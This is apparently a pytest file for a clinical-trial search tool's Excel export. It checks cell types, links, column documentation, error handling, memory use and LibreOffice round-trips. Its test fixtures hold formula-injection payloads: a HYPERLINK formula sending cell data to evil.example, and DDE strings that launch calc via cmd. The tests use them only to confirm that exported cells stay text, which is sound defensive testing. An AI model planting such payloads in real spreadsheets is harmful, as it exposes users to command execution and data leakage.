"""Excel workbooks: typed cells, links, frozen header, filters, widths, the sheet about the
columns, reading one back for --compare and --ids-file, usage errors, partial files, memory;
each workbook opened by openpyxl, and by LibreOffice headless where it is installed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
import zipfile

import openpyxl
import pytest
from click.testing import CliRunner

from trialfinder.cli import cli
from trialfinder.errors import ExitCode
from trialfinder.knowledge import load_toml
from trialfinder.model import parse_study
from trialfinder.pipeline import build_result, to_record
from trialfinder.records import trial_record
from trialfinder.shortlist import CSV_COLUMNS, FIT_COLUMNS
from trialfinder.workbook import ABOUT_SHEET, CUT, MAX_CELL, SHEET, write_xlsx

from factories import BOSTON_SITE, make_study, many_studies
from fakeapi import FakeApi
from officekit import convert, needs_soffice

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"=1+1',
]
BOSTON_WITH_CONTACT = {
    **BOSTON_SITE,
    "contacts": [{"name": "Omar Nadeem", "role": "CONTACT", "phone": "0612345678"}],
}


def run(*args: str):
    return CliRunner().invoke(cli, list(args))


def studies() -> list[dict]:
    contact = [{"name": "Study Team", "phone": "+1 617-555-0100", "email": "team@x.org"}]
    made = [
        make_study(
            nct_id=f"NCT0100000{n}",
            title=title,
            phases=["PHASE1", "PHASE2"],
            central_contacts=contact,
            locations=[BOSTON_WITH_CONTACT],
        )
        for n, title in enumerate(HOSTILE, start=1)
    ]
    made.append(make_study(nct_id="NCT01000009", max_age="6 Months", locations=[BOSTON_SITE]))
    return made


def export(tmp_path, *args: str, name: str = "shortlist.xlsx"):
    path = tmp_path / name
    with FakeApi(studies()) as api:
        result = run("--api-url", api.url, "search", "--near", "02115", *args, "-o", str(path))
    assert result.exit_code == 0, result.output
    return path


def sheet_rows(path, sheet=SHEET) -> list[dict]:
    workbook = openpyxl.load_workbook(path)
    rows = list(workbook[sheet].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


# -- what a person sees ---------------------------------------------------------------------


def test_a_workbook_has_typed_cells_links_a_frozen_filtered_header_and_widths(tmp_path):
    path = export(tmp_path)
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == [SHEET, ABOUT_SHEET]
    sheet = workbook[SHEET]
    header = [cell.value for cell in sheet[1]]
    assert header == list(CSV_COLUMNS)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "B2"  # the header row and the NCT ids stay in view
    assert sheet.auto_filter.ref == f"A1:AH{len(studies()) + 1}"
    column = {name: index for index, name in enumerate(header)}
    assert sheet.column_dimensions["A"].width == 13
    summary_letter = openpyxl.utils.get_column_letter(column["summary"] + 1)
    assert sheet.column_dimensions[summary_letter].width == 80
    for row in sheet.iter_rows(min_row=2):
        cells = {name: row[index] for name, index in column.items()}
        nct_id = cells["nct_id"]
        assert nct_id.data_type == "s" and nct_id.value.startswith("NCT")
        assert nct_id.hyperlink.target == f"https://clinicaltrials.gov/study/{nct_id.value}"
        for date in ("first_posted", "last_updated"):
            assert isinstance(cells[date].value, dt.datetime)
            assert cells[date].number_format == "yyyy-mm-dd"
        assert cells["sites_count"].value == 1 and cells["distance_mi"].data_type == "n"
        assert cells["distance_mi"].number_format == "0.0"
        assert cells["summary"].alignment.wrap_text and cells["title"].alignment.wrap_text
        assert cells["phase_text"].value in ("Phase 1/2", "Phase 2")
    first = {name: sheet.cell(2, index + 1) for name, index in column.items()}
    assert first["first_posted"].value == dt.datetime(2024, 1, 15)
    assert first["min_age"].value == 18
    # Phone numbers are text as written: the + and the leading zero stay, with no mark.
    assert first["central_contact_phone"].value == "+1 617-555-0100"
    assert first["nearest_contact_phone"].value == "0612345678"
    assert first["central_contact_phone"].data_type == "s"
    last = {name: sheet.cell(sheet.max_row, index + 1) for name, index in column.items()}
    assert last["max_age"].value == 0.5 and last["nearest_contact_phone"].value is None


def test_no_cell_is_ever_a_formula_and_hostile_text_stays_text(tmp_path):
    path = export(tmp_path)
    sheet = openpyxl.load_workbook(path)[SHEET]
    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
    for cell, hostile in zip(titles, HOSTILE, strict=False):
        assert cell.data_type == "s" and cell.value == hostile.strip()
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    # In the file itself: not one <f> (formula) element, and the title written as text.
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    assert 't="inlineStr"' in xml


def test_the_second_sheet_explains_every_column(tmp_path):
    path = export(tmp_path)
    about = load_toml("columns.toml")
    rows = list(openpyxl.load_workbook(path)[ABOUT_SHEET].iter_rows(values_only=True))
    assert rows[0] == ("Column", "Meaning", "Example")
    explained = {row[0]: (row[1], row[2]) for row in rows[1:] if row[0]}
    assert list(explained) == list(CSV_COLUMNS)
    for name in CSV_COLUMNS:
        assert explained[name] == (about[name]["meaning"], about[name]["example"])
    assert any("never" not in (row[1] or "") and "formula" in (row[1] or "") for row in rows)


def test_the_column_meanings_are_the_docs():
    """One definition: data/columns.toml, which docs/shortlists.md's table says in Markdown."""
    from pathlib import Path

    docs = Path(__file__).resolve().parents[1] / "docs" / "shortlists.md"
    table = (
        docs.read_text(encoding="utf-8")
        .split("| column | meaning | example |", 1)[1]
        .split("\n\n", 1)[0]
    )
    about = load_toml("columns.toml")
    lines = table.strip().splitlines()[1:]
    documented = {}
    for line in lines:
        name, meaning, example = (c.strip().replace("`", "") for c in line.strip("|").split(" | "))
        documented[name] = {"meaning": meaning, "example": example}
    assert list(documented) == list(CSV_COLUMNS)
    assert documented == {name: about[name] for name in CSV_COLUMNS}
    assert set(about) == {*CSV_COLUMNS, *FIT_COLUMNS, "change"}


def test_text_a_workbook_cannot_hold_is_made_to_fit_and_says_so():
    from openpyxl import load_workbook

    long_title = "Relapsed myeloma " * 3_000  # 51,000 characters: over a cell's limit
    record = to_record(build_result(parse_study(make_study(title=long_title))))
    record["summary"] = "Bell\x07, escape \x1b[31mred\x1b[0m, bidi \u202eevil, \ufffe."
    out = io.BytesIO()
    assert write_xlsx([record], out) == 1
    sheet = load_workbook(io.BytesIO(out.getvalue()))[SHEET]
    title = sheet.cell(2, CSV_COLUMNS.index("title") + 1).value
    assert len(title) == MAX_CELL and title.endswith(CUT)
    assert title.startswith(long_title[:1000])
    summary = sheet.cell(2, CSV_COLUMNS.index("summary") + 1).value
    assert summary == "Bell, escape red, bidi evil, \ufffd."


# -- choosing the format ----------------------------------------------------------------------


@pytest.mark.parametrize("name", ["out.xlsm", "out.txt", "out.xls", "out.XLSB"])
def test_an_extension_trialfinder_does_not_write_is_a_usage_error(tmp_path, name):
    result = run("search", "-o", str(tmp_path / name))
    assert result.exit_code == 2
    suffix = name.rsplit(".", 1)[1].lower()
    assert f"trialfinder does not write .{suffix} files" in result.stderr
    assert ".csv" in result.stderr and ".xlsx" in result.stderr
    assert list(tmp_path.iterdir()) == []  # nothing written, nothing searched


def test_an_explicit_format_may_go_to_any_file_name_but_a_workbook_is_named_xlsx(tmp_path):
    with FakeApi([make_study()]) as api:
        result = run(
            "--api-url", api.url, "search", "--format", "table", "-o", str(tmp_path / "a.txt")
        )
        assert result.exit_code == 0, result.output
        assert "NCT01000001" in (tmp_path / "a.txt").read_text(encoding="utf-8")
        result = run(
            "--api-url", api.url, "search", "--format", "xlsx", "-o", str(tmp_path / "a.csv")
        )
    assert result.exit_code == 2
    assert "a workbook must be named .xlsx" in result.stderr
    for args in (["--excel", "-o", "x.xlsx"], ["--format", "xlsx", "--excel"]):
        result = run("search", *args)
        assert result.exit_code == 2 and "--excel writes CSV" in result.stderr


def test_a_workbook_goes_through_a_pipe(tmp_path):
    with FakeApi([make_study()]) as api:
        result = run("--api-url", api.url, "search", "--format", "xlsx")
    assert result.exit_code == 0, result.stderr
    rows = sheet_rows(io.BytesIO(result.stdout_bytes))
    assert [row["nct_id"] for row in rows] == ["NCT01000001"]


@pytest.mark.skipif(not hasattr(os, "openpty"), reason="needs a pseudo-terminal")
def test_a_workbook_is_not_written_to_a_terminal(fake_api):
    controller, terminal = os.openpty()
    try:
        process = subprocess.run(
            [sys.executable, "-m", "trialfinder", "search", "--format", "xlsx"],
            stdout=terminal,
            stderr=subprocess.PIPE,
            timeout=60,
        )
    finally:
        os.close(terminal)
        os.close(controller)
    assert process.returncode == 2
    assert b"give -o FILE.xlsx" in process.stderr
    assert fake_api.studies_requests() == []


def test_a_failure_part_way_keeps_a_workbook_of_what_arrived(fake_api, tmp_path):
    fake_api.studies = many_studies(12)
    serve = fake_api._page
    fake_api._page = lambda params: serve({**params, "pageSize": "5"})
    fake_api.fail("/studies", status=400, body="Invalid pageToken", after_pages=1)
    out = tmp_path / "trials.xlsx"
    out.write_bytes(b"last week's workbook")
    result = run("search", "-o", str(out))
    assert result.exit_code == ExitCode.PARTIAL
    assert out.read_bytes() == b"last week's workbook"
    partial = tmp_path / "trials.xlsx.partial"
    rows = sheet_rows(io.BytesIO(partial.read_bytes()))
    assert [row["nct_id"] for row in rows] == [f"NCT{10_000_000 + n:08d}" for n in range(1, 6)]
    assert f"what was written so far is kept in {partial}" in result.stderr


# -- reading a workbook back ------------------------------------------------------------------


def test_compare_with_a_workbook_carries_the_users_typed_columns(tmp_path):
    old = export(tmp_path, name="week1.xlsx")
    workbook = openpyxl.load_workbook(old)
    sheet = workbook[SHEET]
    notes = sheet.max_column + 1
    sheet.cell(1, notes, "Called on")
    sheet.cell(1, notes + 1, "notes")
    sheet.cell(2, notes, dt.date(2025, 6, 3))
    typed = sheet.cell(2, notes + 1, "=left a message")
    typed.data_type = "s"  # typed as text (a spreadsheet would make it a formula)
    sheet.cell(3, notes + 1, 42)
    workbook.save(old)
    new = tmp_path / "week2.xlsx"
    week2 = [*studies()[1:], make_study(nct_id="NCT01000010", locations=[BOSTON_SITE])]
    with FakeApi(week2) as api:
        args = ("--api-url", api.url, "search", "--near", "02115", "--compare", str(old))
        result = run(*args, "-o", str(new))
        assert result.exit_code == 0, result.output
        as_csv = run(*args, "--format", "csv")
    rows = sheet_rows(new)
    assert list(rows[0])[:2] == ["change", "nct_id"] and list(rows[0])[-2:] == [
        "Called on",
        "notes",
    ]
    summary = [(r["nct_id"], r["change"], r["Called on"], r["notes"]) for r in rows]
    assert summary == [
        ("NCT01000002", "unchanged", None, 42),
        ("NCT01000003", "unchanged", None, None),
        ("NCT01000004", "unchanged", None, None),
        ("NCT01000005", "unchanged", None, None),
        ("NCT01000009", "unchanged", None, None),
        ("NCT01000010", "new", None, None),
        (
            "NCT01000001",
            "dropped: no longer in the results",
            dt.datetime(2025, 6, 3),
            "=left a message",
        ),
    ]
    dropped = openpyxl.load_workbook(new)[SHEET].cell(len(rows) + 1, len(rows[0]))
    assert dropped.data_type == "s"  # the user's text, never made a formula
    # The same comparison as CSV: dates as ISO text, the user's formula-like text neutralised.
    csv_rows = list(csv.DictReader(io.StringIO(as_csv.stdout, newline="")))
    assert (csv_rows[-1]["Called on"], csv_rows[-1]["notes"]) == ("2025-06-03", "'=left a message")
    assert csv_rows[0]["notes"] == "42"


def test_ids_file_reads_a_workbook_and_a_plain_list_of_ids_in_one(tmp_path):
    from trialfinder.shortlist import read_ids

    old = export(tmp_path)
    assert read_ids(old) == [f"NCT0100000{n}" for n in (1, 2, 3, 4, 5, 9)]
    plain = openpyxl.Workbook()
    for cell in ("NCT01000003", None, "nct01000001", "NCT01000003"):
        plain.active.append([cell])
    plain.save(tmp_path / "ids.xlsx")
    assert read_ids(tmp_path / "ids.xlsx") == ["NCT01000003", "NCT01000001"]
    plain.active.append(["bad id"])
    plain.save(tmp_path / "ids.xlsx")
    result = run("search", "--ids-file", str(tmp_path / "ids.xlsx"))
    assert result.exit_code == 2
    assert "ids.xlsx, sheet 'Sheet', row 5: 'bad id' is not an NCT id" in result.stderr


def test_a_header_below_a_title_row_and_on_a_later_sheet_is_found(tmp_path):
    from trialfinder.shortlist import read_shortlist

    workbook = openpyxl.Workbook()
    workbook.active.append(["my notes, not trials"])
    sheet = workbook.create_sheet("Shortlist")
    sheet.append(["Trials for Ana, June"])
    sheet.append(["NCT_ID", "Last_Updated", "mine"])
    sheet.append(["NCT01000001", dt.datetime(2025, 5, 18), 1])
    sheet.append(["x", None, None])
    workbook.save(tmp_path / "a.xlsx")
    with pytest.raises(Exception, match=r"sheet 'Shortlist', row 4: 'x' is not an NCT id"):
        read_shortlist(tmp_path / "a.xlsx")
    sheet.delete_rows(4)
    workbook.save(tmp_path / "a.xlsx")
    shortlist = read_shortlist(tmp_path / "a.xlsx")
    assert shortlist["NCT01000001"]["last_updated"] == "2025-05-18"
    assert shortlist.extra_columns == ["mine"] and shortlist["NCT01000001"]["mine"] == 1


@pytest.mark.parametrize("content", [b"PK\x03\x04 not really a zip", b"PK\x03\x04" + b"\0" * 64])
def test_a_damaged_workbook_is_a_usage_error(tmp_path, content):
    path = tmp_path / "old.xlsx"
    path.write_bytes(content)
    for option in ("--compare", "--ids-file"):
        result = run("search", option, str(path))
        assert result.exit_code == 2, result.output
        assert f"{path} is not a workbook that can be read" in result.stderr
        assert "Traceback" not in result.output


# -- memory ---------------------------------------------------------------------------------


def test_rows_are_not_held_in_memory():
    """Rows go to a temporary file as they come: each row of 20,000 characters costs about
    a kilobyte (the NCT id's link, which openpyxl keeps until the end), not its text."""
    import tracemalloc

    record = trial_record(parse_study(make_study()))
    record["summary"] = "A long plain-language summary. " * 650  # 20,150 characters

    def peak(count: int) -> int:
        rows = ({**record, "nct_id": f"NCT{n:08d}"} for n in range(1, count + 1))
        tracemalloc.start()
        try:
            write_xlsx(rows, io.BytesIO())
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    small, large = peak(200), peak(1_200)
    per_row = (large - small) / 1_000
    assert per_row < 2_000, (small, large)  # holding the rows would take over 20,000 a row


# -- LibreOffice ----------------------------------------------------------------------------


@needs_soffice
def test_libreoffice_opens_the_workbook_and_saves_it_back_unchanged(tmp_path):
    path = export(tmp_path)
    # LibreOffice opens the workbook and saves it as its own .xlsx: what it understood.
    saved = convert(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / "libreoffice")
    sheet = openpyxl.load_workbook(saved)[SHEET]
    header = [cell.value for cell in sheet[1]]
    assert header == list(CSV_COLUMNS)
    first = {name: sheet.cell(2, index + 1) for index, name in enumerate(header)}
    assert first["nct_id"].hyperlink.target == "https://clinicaltrials.gov/study/NCT01000001"
    assert first["central_contact_phone"].value == "+1 617-555-0100"
    assert first["nearest_contact_phone"].value == "0612345678"
    assert first["first_posted"].value == dt.datetime(2024, 1, 15)
    assert first["sites_count"].value == 1
    assert first["title"].value == HOSTILE[0] and first["title"].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # (LibreOffice headless has no window, and saves no frozen panes of its own.)
    # And a comparison with what LibreOffice saved finds nothing changed.
    with FakeApi(studies()) as api:
        result = run(
            "--api-url",
            api.url,
            "search",
            "--near",
            "02115",
            "--compare",
            str(saved),
            "--format",
            "csv",
        )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert {row["change"] for row in rows} == {"unchanged"} and len(rows) == len(studies())


def test_a_csv_shortlist_compared_into_a_workbook_loses_the_csv_apostrophes(tmp_path):
    old, new = tmp_path / "week1.csv", tmp_path / "week2.xlsx"
    hostile = make_study(
        nct_id="NCT01000007",
        title="=cmd|' /C calc'!A0",
        interventions=[{"type": "DRUG", "name": "@SUM(1)"}, {"type": "DRUG", "name": "Drug B"}],
    )
    with FakeApi([make_study(), hostile]) as api:
        assert run("--api-url", api.url, "search", "-o", str(old)).exit_code == 0
        # A spreadsheet's leftover: an empty column without a name, after the last.
        lines = old.read_text(encoding="utf-8").splitlines()
        old.write_text("\r\n".join(line + "," for line in lines) + "\r\n", encoding="utf-8")
        api.studies = api.studies[:1]
        result = run("--api-url", api.url, "search", "--compare", str(old), "-o", str(new))
    assert result.exit_code == 0, result.output
    rows = sheet_rows(new)
    assert list(rows[0]) == ["change", *CSV_COLUMNS]  # no "column 36" carried
    dropped = rows[-1]
    assert dropped["change"] == "dropped: no longer in the results"
    assert dropped["title"] == "=cmd|' /C calc'!A0"  # text in a text cell, as the registry has it
    assert dropped["interventions"] == "@SUM(1); Drug B"
    live = io.BytesIO()
    write_xlsx([trial_record(parse_study(hostile))], live)
    assert sheet_rows(live)[0]["interventions"] == "@SUM(1); Drug B"
